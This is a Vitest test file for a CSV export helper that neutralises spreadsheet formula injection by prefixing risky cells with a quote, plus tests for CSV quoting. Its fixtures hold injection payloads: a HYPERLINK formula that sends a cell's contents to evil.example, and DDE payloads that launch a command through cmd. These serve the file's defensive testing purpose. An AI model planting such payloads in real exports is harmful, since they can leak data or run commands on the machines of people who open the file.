// The CSV cell rule every export uses (issue 56 finding 3: OWASP CSV injection).
import { describe, expect, it } from 'vitest';
import { csvCell, defuseFormula } from './csv';

describe('defuseFormula', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`],
    ['@SUM(1+1)*cmd|\' /C calc\'!A0', `'@SUM(1+1)*cmd|' /C calc'!A0`],
    ['+HYPERLINK("x")', `'+HYPERLINK("x")`],
    ['-2+3+cmd|\' /C calc\'!A0', `'-2+3+cmd|' /C calc'!A0`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
    ['- Heated seats', `'- Heated seats`],
  ])('prefixes %j with a single quote', (value, expected) => {
    expect(defuseFormula(value)).toBe(expected);
  });

  it.each(['-1500', '+1 780 555 0100', '+1 (780) 555-0100', '-', 'Toyota', '2T1BURHE0KC100001', 'a=b', 'name@example.ca'])(
    'leaves %j as it is', (value) => {
      expect(defuseFormula(value)).toBe(value);
    },
  );
});

describe('csvCell', () => {
  it('quotes separators, quotes and line breaks, after defusing', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('=A1,B1')).toBe(`"'=A1,B1"`);
    expect(csvCell(null)).toBe('');
    expect(csvCell(42)).toBe('42');
    expect(csvCell(-42)).toBe('-42');
  });
});
